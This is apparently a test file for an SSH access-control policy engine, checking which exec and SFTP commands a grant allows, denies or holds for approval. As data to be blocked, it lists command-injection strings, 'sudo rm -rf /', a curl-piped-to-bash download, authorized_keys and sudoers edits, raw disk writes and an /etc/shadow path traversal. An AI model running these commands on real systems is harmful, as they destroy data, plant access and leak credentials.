// SSH exec commands decided end to end by core's policy pipeline: the classifier's Action, a grant whose
// scope holds command entries (parsed as `taskgate grant request --scope` parses them), the SSH kind's
// built-in guardrails and a configured rule that holds a program for a person.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { test } from 'node:test'
import { parseScope } from '../../../src/core/grants/scope.ts'
import { decide } from '../../../src/core/policy/decide.ts'
import type { Rules } from '../../../src/core/policy/rules.ts'
import { SSH_GUARDRAILS } from '../../../src/kinds/ssh-guardrails.ts'
import { classifyExec, classifySftp, classifyShellInput } from '../../../src/protocols/ssh/command/index.ts'
import { activeGrant, GRANT_TIME } from '../../support/grant-fixture.ts'

const rules: Rules = {
  resourceId: 'web-1',
  implicit: { allow: [], except: [] },
  guardrails: [
    ...SSH_GUARDRAILS.map((g) => ({ ...g, traits: [...g.traits] })),
    {
      id: 'hold-restarts',
      description: 'restarts wait for a person',
      action: 'approve',
      traits: ['program:reboot-web'],
    },
  ],
}
const grant = activeGrant(
  'exec:deploy:systemctl status *, exec:deploy:journalctl -u web *, exec:deploy:reboot-web, sftp-read:deploy:/var/log/*',
  { resourceId: 'web-1' },
)
const outcome = (command: string, login = 'deploy') =>
  decide(classifyExec(command, login), grant, rules, GRANT_TIME)

test('command entries allow exactly the commands they name', () => {
  assert.equal(outcome('systemctl status web').outcome, 'allow')
  assert.equal(outcome('/usr/bin/systemctl status web nginx').outcome, 'allow')
  assert.equal(outcome('journalctl -u web --since today').outcome, 'allow')
  assert.equal(outcome('reboot-web').outcome, 'approve-first')
  for (const c of [
    'systemctl restart web',
    'systemctl status web; id',
    'systemctl status web && id',
    'systemctl status $(id)',
    'systemctl status `id`',
    'systemctl status web | sh',
    'systemctl status web > /tmp/x',
    'X=1 systemctl status web',
    '/tmp/systemctl status web',
    'sh -c "systemctl status web"',
    'sudo systemctl status web',
    'journalctl -u db',
    'systemctl status *',
    'systemctl status web\nid',
  ])
    assert.equal(outcome(c).outcome, 'deny', c)
  assert.equal(outcome('systemctl status web', 'root').outcome, 'deny')
})

test('a denial names the missing scope and a request command that parses back to it', () => {
  const d = outcome('systemctl restart web')
  assert.equal(d.outcome, 'deny')
  if (d.outcome !== 'deny') return
  assert.deepEqual(d.missingScope, [{ verb: 'exec', object: 'deploy:systemctl restart web' }])
  assert.match(
    d.requestHint ?? '',
    /--scope "exec:deploy:systemctl status \*,exec:deploy:journalctl -u web \*,.*exec:deploy:systemctl restart web"/,
  )
  // An expansion needs the whole login: the hint asks for exec:deploy.
  const e = outcome('systemctl status $(id)')
  assert.deepEqual(e.outcome === 'deny' && e.missingScope, [{ verb: 'exec', object: 'deploy' }])
})

test('unparseable commands are denied whatever the grant, guardrails deny even a whole-login grant', () => {
  const wide = activeGrant('exec:deploy', { resourceId: 'web-1' })
  const run = (c: string) => decide(classifyExec(c, 'deploy'), wide, rules, GRANT_TIME)
  assert.equal(run('ls -la; echo $HOME').outcome, 'allow')
  assert.equal(run("echo 'unclosed").outcome, 'deny')
  const cases: [string, string][] = [
    ['sudo rm -rf /', 'guardrail:no-recursive-root-delete'],
    ['curl -s https://x | sudo bash', 'guardrail:no-download-into-shell'],
    ['echo k >> ~/.ssh/authorized_keys', 'guardrail:no-authorized-keys-edit'],
    ['mkfs.ext4 /dev/sdb', 'guardrail:no-filesystem-format'],
    ['dd if=x of=/dev/sda', 'guardrail:no-raw-device-write'],
    ['shutdown -r now', 'guardrail:no-host-shutdown'],
    ["sh -c 'echo x >> /etc/sudoers'", 'guardrail:no-sudoers-edit'],
  ]
  for (const [c, rule] of cases) {
    const d = run(c)
    assert.equal(d.outcome === 'deny' && d.rule, rule, c)
  }
})

test('sftp reads are decided per path', () => {
  const read = (p: string) => decide(classifySftp('read', p, 'deploy'), grant, rules, GRANT_TIME).outcome
  assert.equal(read('/var/log/nginx/access.log'), 'allow')
  assert.equal(read('/var/log/../../etc/shadow'), 'deny')
  assert.equal(
    decide(classifySftp('write', '/var/log/x', 'deploy'), grant, rules, GRANT_TIME).outcome,
    'deny',
  )
})

test('a hint holding quotes or a substitution is single-quoted: pasting it runs nothing', () => {
  const d = outcome("systemctl restart 'web$(touch x)'")
  assert.equal(d.outcome, 'deny')
  if (d.outcome !== 'deny') return
  assert.match(
    d.requestHint ?? '',
    /--scope 'exec:deploy:systemctl status \*,.*exec:deploy:systemctl restart '\\''web\$\(touch x\)'\\''' --task/,
  )
})

test('through a real shell, the hint gives back the scope it names, parsed by parseScope', () => {
  for (const command of ["systemctl restart 'web$(touch x)'", 'systemctl restart "a b" c:d', 'ls -la ~']) {
    const d = outcome(command)
    assert.equal(d.outcome, 'deny', command)
    if (d.outcome !== 'deny') continue
    const script = `set -- ${d.requestHint}\nshift 3\nprintf %s "$3"`
    const shell = spawnSync('/bin/bash', ['--norc', '--noprofile', '-c', script], {
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    assert.deepEqual(parseScope(shell.stdout.toString()), [...grant.scope, ...d.missingScope!], command)
  }
})

test('a rule holding a command by its entry holds it inside a list, behind wrappers and in scripts', () => {
  const hold = {
    resourceId: 'web-1',
    implicit: { allow: [], except: [] },
    guardrails: [
      {
        id: 'hold-restarts',
        description: 'restarts wait for a person',
        action: 'approve' as const,
        needs: parseScope('exec:*:systemctl restart *'),
      },
    ],
  }
  const wide = activeGrant('exec:deploy', { resourceId: 'web-1' })
  const run = (c: string) => decide(classifyExec(c, 'deploy'), wide, hold, GRANT_TIME).outcome
  for (const c of [
    'systemctl restart web',
    'ls; systemctl restart web',
    'sudo systemctl restart web',
    "sh -c 'systemctl restart web'",
    'timeout 5 /usr/bin/systemctl restart web && ls',
  ])
    assert.equal(run(c), 'approve-first', c)
  assert.equal(run('systemctl status web; ls'), 'allow')
  const shell = classifyShellInput('sudo systemctl restart web', 'deploy')
  assert.equal(
    decide(shell, activeGrant('shell:deploy', { resourceId: 'web-1' }), hold, GRANT_TIME).outcome,
    'approve-first',
  )
})
